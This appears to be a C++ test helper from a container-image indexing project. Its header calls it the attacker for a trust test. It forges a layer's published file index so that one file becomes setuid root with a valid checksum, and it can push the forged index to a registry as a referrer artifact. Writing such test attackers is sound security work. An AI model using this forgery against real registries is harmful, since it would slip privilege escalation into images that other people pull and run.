// forge_index: the attacker of issue 24, for test/trust_test.sh. Reads the clip index
// published for one layer of an image, and writes a forged copy: the same layer digest,
// spans and checkpoints, with one file made setuid root (mode |= 04000, uid 0, gid 0),
// re-encoded with a valid checksum. Optionally pushes the forged index as a newer
// referrer artifact of the image's manifest (what anyone with push rights can do).
//
//   forge_index REGISTRY_HOST IMAGE_REF LAYER_NUMBER FILE_NAME GENUINE_OUT FORGED_OUT [--referrer]
//
// LAYER_NUMBER counts from 0 in the image's manifest; FILE_NAME is an entry's base name.
// Prints the layer digest, the manifest digest and both indexes' digests. Plain HTTP to
// REGISTRY_HOST only.
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <set>
#include <string>

#include "absl/strings/str_cat.h"
#include "common/status_macros.h"
#include "index/index_format.h"
#include "registry/index_artifact.h"
#include "registry/registry_client.h"

namespace clip {
namespace {

absl::Status Forge(int argc, char** argv) {
  if (argc != 7 && argc != 8) {
    return absl::InvalidArgumentError(
        "usage: forge_index REGISTRY_HOST IMAGE_REF LAYER_NUMBER FILE_NAME GENUINE_OUT "
        "FORGED_OUT [--referrer]");
  }
  const std::string host = argv[1], file = argv[4];
  const bool referrer = argc == 8 && std::string(argv[7]) == "--referrer";
  RegistryClient::Options ro;
  ro.hosts = std::make_shared<DefaultHosts>(std::set<std::string>{host});
  RegistryClient client(ro);
  CLIP_ASSIGN_OR_RETURN(ResolvedImage image, ResolveImage(client, argv[2], ""));
  const size_t n = static_cast<size_t>(std::atoi(argv[3]));
  if (n >= image.image.layers.size()) return absl::InvalidArgumentError("no such layer");
  const Digest layer = image.image.layers[n].digest;
  CLIP_ASSIGN_OR_RETURN(std::vector<PublishedIndex> listed,
                        ListPublishedIndexes(client, image.ref, image.manifest.digest));
  std::vector<PublishedIndex> mine;
  for (const PublishedIndex& p : listed) {
    if (p.layer == layer) mine.push_back(p);
  }
  if (mine.empty()) return absl::NotFoundError("no published index for that layer");
  CLIP_ASSIGN_OR_RETURN(auto blobs, FetchIndexBlobs(client, image.ref, mine));
  const std::string genuine = blobs.at(layer.ToString());
  CLIP_ASSIGN_OR_RETURN(index::v1::LayerIndex index, DecodeIndex(genuine));
  bool found = false;
  for (auto& e : *index.mutable_entries()) {
    if (e.name() != file) continue;
    e.set_mode(e.mode() | 04000);
    e.set_uid(0);
    e.set_gid(0);
    found = true;
  }
  if (!found) return absl::NotFoundError(absl::StrCat("no entry named ", file));
  CLIP_ASSIGN_OR_RETURN(std::string forged, EncodeCheckedIndex(index));
  std::ofstream(argv[5], std::ios::binary) << genuine;
  std::ofstream(argv[6], std::ios::binary) << forged;
  if (referrer) {
    Descriptor subject;
    subject.media_type = image.manifest.media_type;
    subject.digest = image.manifest.digest;
    subject.size = static_cast<int64_t>(image.manifest.bytes.size());
    CLIP_RETURN_IF_ERROR(
        PublishIndexArtifact(client, image.ref, subject, {{layer, forged}}).status());
  }
  std::cout << "layer " << layer.ToString() << "\nmanifest " << image.manifest.digest.ToString()
            << "\ngenuine " << Digest::Of(genuine).ToString() << "\nforged "
            << Digest::Of(forged).ToString() << "\n";
  return absl::OkStatus();
}

}  // namespace
}  // namespace clip

int main(int argc, char** argv) {
  absl::Status st = clip::Forge(argc, argv);
  if (!st.ok()) {
    std::cerr << "forge_index: " << st << "\n";
    return 1;
  }
  return 0;
}
